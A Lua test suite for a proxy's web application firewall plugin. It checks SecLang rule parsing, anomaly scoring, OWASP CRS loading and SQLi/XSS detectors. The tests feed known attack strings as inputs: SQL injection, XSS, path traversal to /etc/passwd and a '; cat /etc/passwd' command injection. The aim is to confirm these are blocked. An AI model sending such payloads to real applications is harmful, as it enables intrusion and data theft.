-- The waf plugin with SecLang rules (issue #20): the reader, the engine's ModSecurity
-- semantics, the detectors, and the real OWASP CRS from Debian's modsecurity-crs (README's
-- install step; its absence is a failure, not a skip).
local T = require "proxy.test"
local waf = require "waf"
local seclang = require "luaproxy.waf.seclang"
local detect = require "luaproxy.waf.detect"
local engine = require "luaproxy.waf.engine"

local CRS = "/usr/share/modsecurity-crs"

local function tmpfile(text)
  local path = os.tmpname() .. ".conf"
  local f = assert(io.open(path, "wb"))
  f:write(text)
  f:close()
  return path
end

local H = { Host = "shop.example.com", ["User-Agent"] = "Mozilla/5.0 (X11; Linux x86_64)",
            Accept = "text/html" }
local function headers(extra)
  local h = {}
  for k, v in pairs(H) do h[k] = v end
  for k, v in pairs(extra or {}) do h[k] = v end
  return h
end

describe("seclang reader", function()
  it("joins continued lines, reads quotes as ModSecurity does, drops comments", function()
    local d = seclang.lex("x.conf", table.concat({
      "# a comment \\",
      'SecRule ARGS "@rx a\\"b\\d" \\',
      '    "id:1,\\',
      "    phase:2,msg:'it\\'s'\"",
      "",
      "SecMarker END",
    }, "\n"))
    assert.are.equal(2, #d)
    assert.are.equal(2, d[1].line)
    assert.are.same({ "SecRule", "ARGS", '@rx a"b\\d', "id:1,    phase:2,msg:'it\\'s'" }, d[1].words)
    local acts = seclang.split_actions("x", d[1].words[4])
    assert.are.same({ "msg", "it's" }, acts[3])
    assert.are.same({ "SecMarker", "END" }, d[2].words)
  end)

  it("refuses a syntax error with file:line", function()
    local p = tmpfile('SecRule ARGS "@rx a" "id:1,phase:2,pass"\nSecRule ARGS "@rx b "id:2"\n')
    local set, err = seclang.load({ p })
    assert.is_nil(set)
    assert.matches(p:gsub("%p", "%%%0") .. ":2: text right after a closing quote", err)
    p = tmpfile('SecRule ARGS "@rx a" "id:1,phase:2,chain"\n')
    set, err = seclang.load({ p })
    assert.is_nil(set)
    assert.matches(":1: the file ends inside a chain", err)
    p = tmpfile('SecRule ARGS "@rx a" "id:1,phase:2,pass,skipAfter:NOWHERE"\n')
    set, err = seclang.load({ p })
    assert.is_nil(set)
    assert.matches(":1: skipAfter:NOWHERE: no SecMarker", err)
  end)

  it("lists unsupported constructs with file:line; the plugin logs them or refuses the config", function()
    local p = tmpfile('SecRule ARGS "@rbl example.org" "id:1,phase:2,pass"\n'
      .. 'SecRule XML:/a/b|XML:/* "@rx a" "id:2,phase:2,pass,t:md5"\n')
    local set = assert(seclang.load({ p }))
    assert.are.same({ p .. ":1: operator @rbl", p .. ":2: variable XML:/a/b (XPath: only /* and //@*)",
      p .. ":2: transformation t:md5" }, set.unsupported)
    local ok, err = pcall(T.conf, waf, { crs = p, unsupported = "refuse" })
    assert.is_false(ok)
    assert.matches("3 SecLang constructs the engine does not run", tostring(err))
    assert.truthy(T.conf(waf, { crs = p }))
  end)
end)

describe("SecLang rules in the waf engine", function()
  before_each(function() T.reset() end)

  -- A small rule set with CRS's shape: setvar scores, a chain, skipAfter, a macro, the
  -- blocking rule reading the score.
  local RULES = [[
SecRule &TX:threshold "@eq 0" "id:10,phase:1,pass,nolog,setvar:tx.threshold=5"
SecRule REQUEST_HEADERS:X-Skip "@streq yes" "id:11,phase:2,pass,nolog,skipAfter:END-CHECKS"
SecRule ARGS "@rx (?i)evil" "id:20,phase:2,pass,capture,t:none,t:urlDecodeUni,t:lowercase,\
  msg:'evil in %{MATCHED_VAR_NAME}',setvar:'tx.anomaly_score=+%{tx.threshold}',setvar:'tx.hit_%{MATCHED_VAR_NAME}=%{tx.0}'"
SecRule ARGS:a "@beginsWith x" "id:30,phase:2,pass,chain"
  SecRule ARGS:b "@within one two three" "setvar:tx.anomaly_score=+5"
SecRule ARGS_NAMES "@pm danger peril" "id:40,phase:2,pass,setvar:tx.anomaly_score=+5"
SecMarker END-CHECKS
SecRule TX:anomaly_score "@ge %{tx.threshold}" "id:90,phase:2,deny,status:403,msg:'score %{tx.anomaly_score}'"
]]
  local conf
  local function run(uri, extra)
    conf = conf or T.conf(waf, { crs = tmpfile(RULES), default_rules = false })
    local req = T.request({ uri = uri, headers = headers(extra) })
    return T.phase(waf, "request", req, conf), req
  end

  it("scores through TX, reads macros, blocks at the deny rule", function()
    local blocked, req = run("/?q=EVIL")
    assert.is_true(blocked)
    assert.are.equal("block", req.ctx.waf.action)
    assert.are.equal(5, req.ctx.waf.score)
    assert.are.equal(20, req.ctx.waf.matches[1].id)
    assert.are.equal("ARGS:q", req.ctx.waf.matches[1].var)
    assert.are.equal(90, req.ctx.waf.matches[2].id)
    assert.is_false((run("/?q=good")))
  end)

  it("runs a chain only when every link matches, and skipAfter jumps to the marker", function()
    assert.is_true((run("/?a=xyz&b=two")))
    assert.is_false((run("/?a=xyz&b=four")))
    assert.is_false((run("/?a=yz&b=two")))
    assert.is_true((run("/?danger=1")))
    assert.is_false((run("/?danger=1", { ["X-Skip"] = "yes" })))
  end)

  it("multiMatch tests each step's text (prefiltered); validateByteRange finds the first byte out", function()
    local c2 = T.conf(waf, { crs = tmpfile([[
SecRule ARGS "@rx ^/etc/passwd$" "id:50,phase:2,deny,status:403,multiMatch,t:none,t:urlDecodeUni,t:lowercase"
SecRule ARGS "@validateByteRange 32-36,38-126" "id:60,phase:2,deny,status:400"
]]), default_rules = false })
    local function status(uri)
      local req = T.request({ uri = uri, headers = headers() })
      T.phase(waf, "request", req, c2)
      return req.ctx.waf and req.ctx.waf.matches[1].id or nil
    end
    -- the query is decoded once: %252F is %2F as the rule sees it, / after its urlDecodeUni
    assert.are.equal(50, status("/?f=%252Fetc%252Fpasswd"))
    -- matches only as written: lowercase would change it, the step before already matched
    assert.are.equal(50, status("/?f=/etc/passwd"))
    assert.are.equal(50, status("/?f=/ETC/PASSWD"))
    assert.is_nil(status("/?f=/etc/passwd.txt"))
    assert.are.equal(60, status("/?f=50%25off"))
    assert.are.equal(60, status("/?f=a%09b"))
    assert.is_nil(status("/?f=a-b_c%5Dd%5Ee"))
  end)

  it("runs a SecAction (no variable: it matches once)", function()
    local c = T.conf(waf, { crs = tmpfile([[
SecAction "id:1,phase:1,pass,nolog,setvar:tx.points=+3"
SecRule REQUEST_HEADERS:X-Points "@streq 1" "id:2,phase:1,pass,nolog,setvar:tx.points=+3"
SecRule TX:points "@ge 6" "id:3,phase:2,deny,status:403"
]]), default_rules = false })
    local req = T.request({ uri = "/", headers = headers() })
    assert.is_false(T.phase(waf, "request", req, c))
    req = T.request({ uri = "/", headers = headers({ ["X-Points"] = "1" }) })
    assert.is_true(T.phase(waf, "request", req, c))
    assert.are.equal(3, req.ctx.waf.matches[1].id)
  end)

  it("takes rules and targets out by exclusions in Lua", function()
    local c = T.conf(waf, { crs = tmpfile(RULES), default_rules = false,
      exclusions = { { ids = { 20 }, targets = { "ARGS:q" } } } })
    local req = T.request({ uri = "/?q=evil", headers = headers() })
    assert.is_false(T.phase(waf, "request", req, c))
    req = T.request({ uri = "/?r=evil", headers = headers() })
    assert.is_true(T.phase(waf, "request", req, c))
  end)

  it("learn mode refuses nothing and logs each rule and variable as a ready exclusion", function()
    local c = T.conf(waf, { crs = tmpfile(RULES), default_rules = false, mode = "learn" })
    local req = T.request({ uri = "/?comment=evil+twin", headers = headers() })
    assert.is_false(T.phase(waf, "request", req, c))
    local found = false
    for _, l in ipairs(T.log_lines("warn")) do
      if l:find('waf learn: rule 20 fires on ARGS:comment; exclusion: { ids = { 20 }, targets = { "ARGS:comment" } }', 1, true) then
        found = true
      end
    end
    assert.is_true(found)
    assert.matches('{ ids = { 20 }, targets = { "ARGS:comment" } },', waf.learned(), 1, true)
  end)

  it("learn mode logs the Lua rules beside CRS too: 1009 on a body error, ready to paste", function()
    local c = T.conf(waf, { crs = tmpfile(RULES), mode = "learn", hyperscan = false })
    local body = '{"a": tru}'
    local req = T.request({ method = "POST", uri = "/api", body = body, headers = headers({
      ["Content-Type"] = "application/json", ["Content-Length"] = tostring(#body) }) })
    assert.is_false(T.phase(waf, "request", req, c))
    local want = 'waf learn: rule 1009 fires on body_error; exclusion: { ids = { 1009 }, targets = { "body_error" } }'
    local found = false
    for _, l in ipairs(T.log_lines("warn")) do
      if l:find(want, 1, true) then
        found = true
        assert.matches("such bodies pass uninspected", l, 1, true) -- what pasting it costs
      end
    end
    assert.is_true(found)
    assert.matches('{ ids = { 1009 }, targets = { "body_error" } },', waf.learned(), 1, true)
    -- pasted, it takes that body error out (block mode passes the request)
    c = T.conf(waf, { crs = tmpfile(RULES), hyperscan = false,
      exclusions = { { ids = { 1009 }, targets = { "body_error" } } } })
    req = T.request({ method = "POST", uri = "/api", body = body, headers = headers({
      ["Content-Type"] = "application/json", ["Content-Length"] = tostring(#body) }) })
    assert.is_false(T.phase(waf, "request", req, c))
  end)
end)

describe("an error in the SecLang walk", function()
  before_each(function() T.reset() end)

  -- CRS's shape: the attack rules add to tx.anomaly_score_pl1, the 949 rules at the end
  -- sum it into tx.anomaly_score and refuse at the threshold. Rule 30 raises: no rule does
  -- by design, so a bug is made here in the compiled rule (its regex turned into a number),
  -- and PCRE2 then raises inside the walk as any bug would.
  local RULES = [[
SecRule ARGS "@rx evil" "id:20,phase:2,pass,log,msg:'evil',setvar:'tx.anomaly_score_pl1=+5'"
SecRule ARGS "@rx odd" "id:21,phase:2,pass,log,msg:'odd',setvar:'tx.anomaly_score_pl1=+3'"
SecRule ARGS "@rx zzz" "id:30,phase:2,pass,log,msg:'broken'"
SecRule TX:PARANOIA_LEVEL "@ge 1" "id:949060,phase:2,pass,nolog,setvar:'tx.anomaly_score=+%{tx.anomaly_score_pl1}'"
SecRule TX:ANOMALY_SCORE "@ge %{tx.inbound_anomaly_score_threshold}" "id:949110,phase:2,deny,status:403"
]]
  local keep -- (the compiled set is cached weakly: kept until T.run asks for it again)
  local function broken(over, tx)
    local o = { crs = tmpfile(RULES), default_rules = false, hyperscan = false, over_budget = over,
                crs_tx = tx }
    keep = T.conf(waf, o).sec
    assert(engine.finish_seclang(keep)) -- (it compiles every regex: before the bug is made)
    keep.by_id[30].conds[1].arg = 42
    return o
  end
  local function ids(res)
    local out = {}
    for _, m in ipairs(res.ctx.waf.matches) do out[#out + 1] = m.id end
    return out
  end

  it("keeps the score earned before it: at CRS's threshold it refuses whatever over_budget says", function()
    local o = broken("pass")
    local res = T.run(waf, o, { uri = "/?a=evil", headers = headers() })
    assert.equal(403, res.status) -- passed, 20's 5 points lost, before
    assert.equal("block", res.ctx.waf.action)
    assert.equal(5, res.ctx.waf.score)
    assert.same({ 20, 0 }, ids(res))
    local line
    for _, l in ipairs(res.logs) do
      if l.level == "err" and l.message:find("SecLang", 1, true) then line = l.message end
    end
    assert.is_not_nil(line)
    assert.matches(":3 (rule 30) (over_budget = \"pass\"): ", line, 1, true)
    assert.matches("expected a string, got number", line, 1, true)
    assert.matches("stack traceback:", line, 1, true) -- none, before
    assert.matches("luaproxy/waf/engine.lua:%d+", line)
    local _, n = line:gsub("stack traceback:", "")
    assert.equal(1, n)
    assert.equal(1, T.metric("waf_rule_errors_total", { rules = "seclang" }))
  end)

  it("under the threshold, over_budget decides, the matches kept either way", function()
    local res = T.run(waf, broken("pass"), { uri = "/?a=odd", headers = headers() })
    assert.equal(200, res.status)
    assert.equal("pass", res.ctx.waf.action)
    assert.equal(3, res.ctx.waf.score)
    assert.same({ 21, 0 }, ids(res))
    T.reset()
    res = T.run(waf, broken(), { uri = "/?a=odd", headers = headers() })
    assert.equal(403, res.status)
    assert.same({ 21, 0 }, ids(res))
    assert.equal(1, T.metric("waf_rule_errors_total", { rules = "seclang" }))
    -- the threshold is CRS's, from TX: 3 points refuse at a threshold of 3
    T.reset()
    res = T.run(waf, broken("pass", { inbound_anomaly_score_threshold = "3" }),
      { uri = "/?a=odd", headers = headers() })
    assert.equal(403, res.status)
  end)
end)

describe("the walk folded at load against the seeded TX", function()
  before_each(function() T.reset() end)

  -- the ids of the rules a request visits one by one (jump items: none)
  local function walked(c)
    local ids = {}
    for p = 1, 2 do
      for _, r in ipairs(c.sec.phases[p]) do if r.id then ids[r.id] = true end end
    end
    return ids
  end
  local function refused(c, uri)
    return T.phase(waf, "request", T.request({ uri = uri, headers = headers() }), c) == true
  end

  it("runs the initialisation once, and a paranoia gate becomes a jump or goes", function()
    local p = tmpfile([[
SecRule &TX:threshold "@eq 0" "id:10,phase:1,pass,nolog,setvar:tx.threshold=5"
SecRule TX:EXECUTING_PARANOIA_LEVEL "@lt 2" "id:11,phase:1,pass,nolog,skipAfter:END-PL2"
SecRule ARGS "@rx pl2evil" "id:12,phase:1,pass,setvar:tx.anomaly_score=+5"
SecMarker END-PL2
SecRule ARGS "@rx badword" "id:13,phase:2,pass,setvar:tx.anomaly_score=+5"
SecRule TX:anomaly_score "@ge %{tx.threshold}" "id:90,phase:2,deny,status:403"
]])
    local c1 = T.conf(waf, { crs = p, default_rules = false, paranoia = 1 })
    local w = walked(c1)
    assert.is_nil(w[10])
    assert.is_nil(w[11])
    assert.is_nil(w[12]) -- behind the gate: no request reaches it
    assert.is_true(w[13] and w[90])
    assert.are.equal("5", c1.tx.threshold)
    assert.are.equal(3, c1.sec.counts.folded)
    assert.is_false(refused(c1, "/?q=pl2evil"))
    assert.is_true(refused(c1, "/?q=badword"))
    -- paranoia 2 (another route, or a reload): the gate fails, rule 12 runs
    local c2 = T.conf(waf, { crs = p, default_rules = false, paranoia = 2 })
    w = walked(c2)
    assert.is_nil(w[11])
    assert.is_true(w[12])
    assert.is_true(refused(c2, "/?q=pl2evil"))
    -- the seed the set was folded against is part of what it is compiled from
    local c3 = T.conf(waf, { crs = p, default_rules = false, inbound_threshold = 10, crs_tx = { threshold = "10" } })
    assert.are.equal("10", c3.tx.threshold)
    assert.is_false(refused(c3, "/?q=badword"))
  end)

  it("runs an @rx whose pattern has a macro (CRS 920480, the charset allowlist)", function()
    local function post(c, ct)
      return T.phase(waf, "request", T.request({ method = "POST", uri = "/api", body = "q=hello",
        headers = headers({ ["Content-Type"] = ct, ["Content-Length"] = "7" }) }), c) == true
    end
    local c = T.conf(waf, { crs = CRS, default_rules = false })
    assert.is_true(post(c, "application/x-www-form-urlencoded; charset=utf-7"))
    assert.is_false(post(c, "application/x-www-form-urlencoded; charset=utf-8"))
    assert.is_false(post(c, "application/x-www-form-urlencoded"))
    -- the allowlist is the operator's (crs_tx), read at each request
    local c2 = T.conf(waf, { crs = CRS, default_rules = false,
                             crs_tx = { allowed_request_content_type_charset = "utf-8|utf-7" } })
    assert.is_false(post(c2, "application/x-www-form-urlencoded; charset=utf-7"))
    assert.is_true(post(c2, "application/x-www-form-urlencoded; charset=iso-8859-1"))
    -- an allowlist that is no regex is a regex error on TX:1 (regex_error decides: it was
    -- dropped, and the charset passed)
    local c3 = T.conf(waf, { crs = CRS, default_rules = false, regex_error = "match",
                             crs_tx = { allowed_request_content_type_charset = "utf-8|(" } })
    assert.is_true(post(c3, "application/x-www-form-urlencoded; charset=utf-7"))
    -- capture works on such a pattern too; a %{ that names no variable is a regex's brace
    local p = tmpfile([[
SecAction "id:1,phase:1,pass,nolog,setvar:tx.pat=a(bc)"
SecRule ARGS:v "@rx %{tx.pat}" "id:2,phase:1,pass,capture,chain"
  SecRule TX:1 "@streq bc" "setvar:tx.anomaly_score=+5"
SecRule ARGS:w "@rx x%{[a-z]+}" "id:3,phase:1,deny,status:403"
]])
    local c4 = T.conf(waf, { crs = p, default_rules = false })
    assert.is_true(refused(c4, "/?v=abc"))
    assert.is_false(refused(c4, "/?v=abd"))
    local ok, err = pcall(T.conf, waf, { crs = tmpfile('SecRule ARGS "@rx ^%{REQEST_HEADERS.host}$" "id:5,phase:1,deny"\n'),
                                        default_rules = false })
    assert.is_false(ok)
    assert.matches("did you mean REQUEST_HEADERS", tostring(err), 1, true)
  end)

  it("reads a keyed variable of a collection made during the walk (MATCHED_VARS:foo)", function()
    local p = tmpfile([[
SecRule ARGS "@rx evil" "id:1,phase:2,pass,log,t:none,chain"
  SecRule MATCHED_VARS:foo "@rx evil" "t:none,setvar:tx.anomaly_score=+5"
SecRule ARGS "@rx evil" "id:2,phase:2,pass,log,t:none,chain"
  SecRule MATCHED_VARS:ARGS:bar "@rx evil" "t:none,setvar:tx.anomaly_score=+5"
]])
    -- its names are the full variable names (ARGS:foo): MATCHED_VARS:foo selects nothing.
    -- It raised in the walk (refused as over_budget's "block" decides a rule error).
    local c = T.conf(waf, { crs = p, default_rules = false })
    assert.is_false(refused(c, "/?foo=evil"))
    assert.is_true(refused(c, "/?bar=evil"))
  end)

  it("refuses at the request's tx.inbound_anomaly_score_threshold, which crs_tx may raise", function()
    local p = tmpfile([[
SecRule ARGS "@rx badword" "id:13,phase:2,pass,setvar:tx.anomaly_score=+5"
SecRule ARGS "@rx worseword" "id:14,phase:2,pass,setvar:tx.anomaly_score=+5"
]])
    local c1 = T.conf(waf, { crs = p, default_rules = false })
    assert.is_true(refused(c1, "/?q=badword"))
    -- CRS's 949 rules would refuse at 10: so does the plugin (it refused at 5 before)
    local c2 = T.conf(waf, { crs = p, default_rules = false,
                             crs_tx = { inbound_anomaly_score_threshold = "10" } })
    assert.is_false(refused(c2, "/?q=badword"))
    assert.is_true(refused(c2, "/?q=badword+worseword"))
    -- the bundled Lua rules beside CRS still refuse at inbound_threshold (1006: a bad
    -- percent-encoding scores 5), however high CRS's own threshold is set
    -- a number, as crs-setup.conf writes it, is taken; a word where CRS compares numbers
    -- is refused at load (it made every request score past it)
    local c4 = T.conf(waf, { crs = p, default_rules = false, crs_tx = { inbound_anomaly_score_threshold = 10 } })
    assert.is_false(refused(c4, "/?q=badword"))
    assert.is_true(refused(c4, "/?q=badword+worseword"))
    local ok, err = pcall(T.conf, waf, { crs = p, crs_tx = { inbound_anomaly_score_threshold = "ten" } })
    assert.is_false(ok)
    assert.matches("crs_tx.*whole number for inbound_anomaly_score_threshold", tostring(err))
    assert.is_false((pcall(T.conf, waf, { crs = p, crs_tx = { paranoia_level = "x" } })))
    local ok0, err0 = pcall(T.conf, waf, { crs = p, crs_tx = { inbound_anomaly_score_threshold = 0 } })
    assert.is_false(ok0)
    assert.matches("a threshold of 0 refuses every request", tostring(err0), 1, true)
    assert.is_true((pcall(T.conf, waf, { crs = p, crs_tx = { allowed_methods = "GET POST" } })))
    -- a key as crs-setup.conf writes it (tx.name) is the name
    local c5 = T.conf(waf, { crs = p, default_rules = false, crs_tx = { ["tx.inbound_anomaly_score_threshold"] = 10 } })
    assert.is_false(refused(c5, "/?q=badword"))
    for _, t in ipairs({ "10", "10000" }) do
      local c3 = T.conf(waf, { crs = p, default_rules = true,
                               crs_tx = { inbound_anomaly_score_threshold = t } })
      assert.is_true(refused(c3, "/?a=%zz"))
      assert.is_false(refused(c3, "/?q=badword"))
    end
  end)

  it("keeps a check of a TX key some setvar writes, and of a key under a macro key's prefix", function()
    local p = tmpfile([[
SecRule ARGS:mode "@streq strict" "id:20,phase:1,pass,nolog,setvar:tx.strict=1"
SecRule &TX:strict "@eq 0" "id:21,phase:1,pass,nolog,skipAfter:END-STRICT"
SecRule ARGS "@rx strictevil" "id:22,phase:1,pass,setvar:tx.anomaly_score=+5"
SecMarker END-STRICT
SecRule ARGS_NAMES "@rx ^h_" "id:30,phase:1,pass,nolog,setvar:'tx.flag_%{MATCHED_VAR}=1'"
SecRule &TX:flag_h_a "@eq 1" "id:31,phase:1,pass,setvar:tx.anomaly_score=+5"
SecRule &TX:other "@eq 0" "id:32,phase:1,pass,nolog,skipAfter:END-OTHER"
SecRule ARGS "@rx othervil" "id:33,phase:1,pass,setvar:tx.anomaly_score=+5"
SecMarker END-OTHER
SecRule ARGS:nogate "@streq 1" "id:40,phase:1,pass,nolog,ctl:ruleRemoveById=41"
SecRule &TX:x "@eq 0" "id:41,phase:1,pass,nolog,skipAfter:END-X"
SecRule ARGS "@rx xevil" "id:42,phase:1,pass,setvar:tx.anomaly_score=+5"
SecMarker END-X
SecRule TX:anomaly_score "@ge 5" "id:90,phase:2,deny,status:403"
]])
    local c = T.conf(waf, { crs = p, default_rules = false })
    local w = walked(c)
    -- tx.strict is written by rule 20: its check stays, and what it guards
    assert.is_true(w[20] and w[21] and w[22])
    assert.is_true(refused(c, "/?mode=strict&x=strictevil"))
    assert.is_false(refused(c, "/?x=strictevil"))
    -- tx.flag_* is written under a macro key: 31 stays; tx.other is not under it: 32 goes
    assert.is_true(w[30] and w[31])
    assert.is_nil(w[32])
    assert.is_nil(w[33])
    assert.is_true(refused(c, "/?h_a=1"))
    assert.is_false(refused(c, "/?x=othervil"))
    -- a ctl may take gate 41 out: it is not folded
    assert.is_true(w[40] and w[41] and w[42])
    assert.is_true(refused(c, "/?nogate=1&a=xevil"))
    assert.is_false(refused(c, "/?a=xevil"))
  end)

  it("leaves no paranoia-level gate or settings section of CRS in the walk", function()
    local c = T.conf(waf, { crs = CRS })
    local n = 0
    for p = 1, 2 do
      for _, r in ipairs(c.sec.phases[p]) do
        if r.id then
          n = n + 1
          for _, cond in ipairs(r.conds) do
            for _, e in ipairs(cond.tgt) do
              assert.is_false(e.coll == "tx" and (e.key == "executing_paranoia_level"
                or (e.key or ""):find("^crs_exclusions_") ~= nil), "rule " .. r.id .. " left in the walk")
            end
          end
        end
      end
    end
    assert.is_true(n < c.sec.counts.compiled / 2)
    assert.are.equal("1", c.tx.executing_paranoia_level)
    assert.are.equal("5", c.tx.critical_anomaly_score) -- from 901140, run once at load
    assert.are.equal("0", c.tx.anomaly_score) -- 901200, a SecAction
  end)
end)

describe("detectSQLi and detectXSS", function()
  it("find injections in their shapes", function()
    for _, v in ipairs({ "1' OR '1'='1", "admin'--", "' or 1=1--", "1 UNION SELECT a, b FROM users",
      "1; DROP TABLE users", "'; exec xp_cmdshell 'dir'--", "1 AND 1=1", "1' AND SLEEP(5)#",
      "') or ('a'='a", "char(49,50,51)", "1 order by 5--", "x' AND updatexml(1,concat(0x7e,version()),1)--",
      -- the pass as written skips the tokenizer only when nothing can be found: these must
      -- still be (a number or a literal first, after blanks or MySQL's /*! marker)
      "true AND 1=1", "/*!50000 1 and 1=1*/", "  .5 or 1=1", "\160 NULL or 1=1", "x union all select 1",
      "FALSE or sleep(1)" }) do
      assert.truthy(detect.sqli(v), v)
    end
    for _, v in ipairs({ "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
      '" onmouseover="alert(1)', "javascript:alert(1)", "<svg/onload=alert(1)>",
      '<a href="jAvAsCrIpT&colon;alert(1)">x</a>', '<div style="width: expression(alert(1))">' }) do
      assert.truthy(detect.xss(v), v)
    end
  end)

  it("leave prose alone", function()
    for _, v in ipairs({ "It's great, I'd buy it again -- really!", "O'Brien", "the 'order by' date",
      "rock 'n' roll and jazz", "select one from the list", "Tom & Jerry; cat lovers", "count(3) apples",
      "1 or 2 items", "5' 11\" tall" }) do
      assert.is_nil(detect.sqli(v), v)
    end
    for _, v in ipairs({ "<b>bold</b> and <i>it</i>", '<a href="https://example.com/">link</a>',
      'I said "hi" once', "x < y and y > z", "javascript: the good parts" }) do
      assert.is_nil(detect.xss(v), v)
    end
  end)
end)

describe("the OWASP CRS from Debian's modsecurity-crs", function()
  before_each(function() T.reset() end)
  local conf1
  local function crs()
    conf1 = conf1 or T.conf(waf, { crs = CRS })
    return conf1
  end

  it("is installed (README: apt-get install modsecurity-crs)", function()
    assert.truthy(seclang.list_dir(CRS .. "/rules"), CRS .. "/rules is missing")
  end)

  it("is the default rule set where it is installed; a missing path refuses the config", function()
    local c = T.conf(waf, { hyperscan = false })
    assert.are.equal(CRS, c.crs)
    assert.truthy(c.sec)
    assert.is_nil(T.conf(waf, { crs = false, hyperscan = false }).sec)
    local ok, err = pcall(T.conf, waf, { crs = "/nonexistent/crs" })
    assert.is_false(ok)
    assert.matches("waf: crs: /nonexistent/crs does not exist", tostring(err), 1, true)
    ok, err = pcall(T.conf, waf, { crs = true })
    assert.is_false(ok)
    assert.matches("expected a path", tostring(err), 1, true)
  end)

  it("loads every request rule file; what it does not run is listed", function()
    local c = crs()
    local counts = c.sec.counts
    assert.is_true(counts.rules > 600)
    assert.is_true(counts.compiled > 300)
    assert.are.equal(counts.rules, counts.compiled + counts.paranoia_skipped + counts.response + counts.excluded)
    for _, u in ipairs(c.sec.unsupported) do
      assert.matches("^/usr/share/modsecurity%-crs/rules/[%w.-]+%.conf:%d+: ", u)
    end
  end)

  it("blocks attacks, passes ordinary requests (GraphQL and JSON parsed, JSON cookies as leaves)", function()
    local c = crs()
    for _, uri in ipairs({ "/products?id=1%27+OR+%271%27%3D%271", "/p?file=../../../../etc/passwd",
      "/s?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "/x?c=%3B+cat+%2Fetc%2Fpasswd" }) do
      local req = T.request({ uri = uri, headers = headers() })
      assert.is_true(T.phase(waf, "request", req, c), uri)
      assert.are.equal(949110, req.ctx.waf.matches[#req.ctx.waf.matches].id)
    end
    local body = '{"query":"query($id: ID!) { product(id: $id) { name reviews(first: 5) { edges { node { text } } } } }","variables":{"id":"12"}}'
    local req = T.request({ method = "POST", uri = "/graphql", body = body,
      headers = headers({ ["Content-Type"] = "application/json", ["Content-Length"] = tostring(#body) }) })
    assert.is_false(T.phase(waf, "request", req, c))
    req = T.request({ uri = "/", headers = headers({ Cookie = "cart=%7B%22items%22%3A%20%5B%7B%22id%22%3A%2066%7D%5D%7D" }) })
    assert.is_false(T.phase(waf, "request", req,
      -- hyperscan = false: PCRE2 alone, same results, no second Hyperscan compile (seconds)
      T.conf(waf, { crs = CRS, paranoia = 2, hyperscan = false })))
  end)

  it("gives each request the same verdict whatever request came before (the walk's tables are reused)", function()
    local c = crs()
    local reqs = {
      { uri = "/products?id=1%27+OR+%271%27%3D%271", headers = headers(), rule = 942100 },
      { uri = "/?id=123&utm_source=newsletter", headers = headers({ Cookie = "session=8f4c2a1b; cart=3" }) },
      { uri = "/s?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", headers = headers({ Cookie = "cart=3" }), rule = 941110 },
      { uri = "/?id=123", headers = headers({ Referer = "https://shop.example.com/?p=2" }) },
      { uri = "/p?file=../../../../etc/passwd", headers = headers({ Cookie = "session=8f4c2a1b" }), rule = 930120 },
      -- found by prefiltered rules alone (their group scans: 913100's phrases, 932 and 933's
      -- patterns)
      { uri = "/", headers = headers({ ["User-Agent"] = "sqlmap/1.5.2#stable (http://sqlmap.org)" }), rule = 913100 },
      { uri = "/x?c=%3B+cat+%2Fetc%2Fpasswd", headers = headers(), rule = 932100 },
      { uri = "/x?f=php://filter/resource=index.php", headers = headers(), rule = 933140 },
    }
    local function verdict(i)
      local req = T.request({ uri = reqs[i].uri, headers = reqs[i].headers })
      local refused = T.phase(waf, "request", req, c)
      local w = req.ctx.waf or {}
      local out = { tostring(refused), tostring(w.score) }
      for _, m in ipairs(w.matches or {}) do out[#out + 1] = m.id .. " " .. tostring(m.var) .. " " .. tostring(m.excerpt) end
      return table.concat(out, "; ")
    end
    local first = {}
    for i = 1, #reqs do
      first[i] = verdict(i)
      if reqs[i].rule then
        assert.matches("^true; .*; " .. reqs[i].rule .. " ", first[i])
      else
        assert.are.equal("false; nil", first[i])
      end
    end
    -- each request after each other one, and twice in a row
    for i = #reqs, 1, -1 do
      for j = 1, #reqs do
        verdict(j)
        assert.are.equal(first[i], verdict(i), reqs[i].uri .. " after " .. reqs[j].uri)
      end
    end
  end)

  it("refuses a body over the limit, and a body that does not parse", function()
    local c = T.conf(waf, { crs = CRS, body_limit = 64, hyperscan = false })
    local body = string.rep("a=1&", 40)
    local req = T.request({ method = "POST", uri = "/f", body = body,
      headers = headers({ ["Content-Type"] = "application/x-www-form-urlencoded", ["Content-Length"] = tostring(#body) }) })
    assert.is_true(T.phase(waf, "request", req, c))
    assert.are.equal("refuse", req.ctx.waf.action)
    assert.are.equal("body over limit", req.ctx.waf.reason)
    body = '{"a": '
    req = T.request({ method = "POST", uri = "/f", body = body,
      headers = headers({ ["Content-Type"] = "application/json", ["Content-Length"] = tostring(#body) }) })
    assert.is_true(T.phase(waf, "request", req, crs()))
  end)
end)

describe("what the waf cannot inspect whole (CRS)", function()
  before_each(function() T.reset() end)
  local conf1
  local function crs()
    conf1 = conf1 or T.conf(waf, { crs = CRS })
    return conf1
  end
  local SQLI = "1 UNION SELECT password FROM users WHERE 1=1 --"
  local function post(ctype, body, uri)
    return T.request({ method = "POST", uri = uri or "/f", body = body,
      headers = headers({ ["Content-Type"] = ctype, ["Content-Length"] = tostring(#body) }) })
  end
  local function dummies(n, fmt, sep)
    local t = {}
    for i = 1, n do t[i] = fmt:format(i) end
    return table.concat(t, sep)
  end

  -- refused, by the body error rule (protocol.lua's 1009) among others
  local function refused(req, c, why)
    assert.is_true(T.phase(waf, "request", req, c), why)
    assert.are.equal("block", req.ctx.waf.action, why)
    local ids = {}
    for _, m in ipairs(req.ctx.waf.matches) do ids[#ids + 1] = m.id end
    assert.is_truthy((" " .. table.concat(ids, " ") .. " "):find(" 1009 ", 1, true), why)
  end

  it("refuses a request with more values than max_args (they were not inspected)", function()
    local c = crs()
    refused(post("application/json", "{" .. dummies(1024, '"k%d":0', ",") .. ',"zz":"' .. SQLI .. '"}'), c, "json")
    refused(post("application/x-www-form-urlencoded",
      dummies(1024, "k%d=0", "&") .. "&zz=" .. SQLI:gsub(" ", "+")), c, "form")
    refused(T.request({ uri = "/?" .. dummies(1024, "k%d=0", "&") .. "&zz=" .. SQLI:gsub(" ", "+"),
      headers = headers() }), c, "query")
    refused(T.request({ uri = "/", headers = headers({ Cookie = dummies(1024, "k%d=0", "; ")
      .. "; zz=" .. SQLI }) }), c, "cookies")
    local parts = dummies(1024, '--B\r\nContent-Disposition: form-data; name="k%d"\r\n\r\n0\r\n', "")
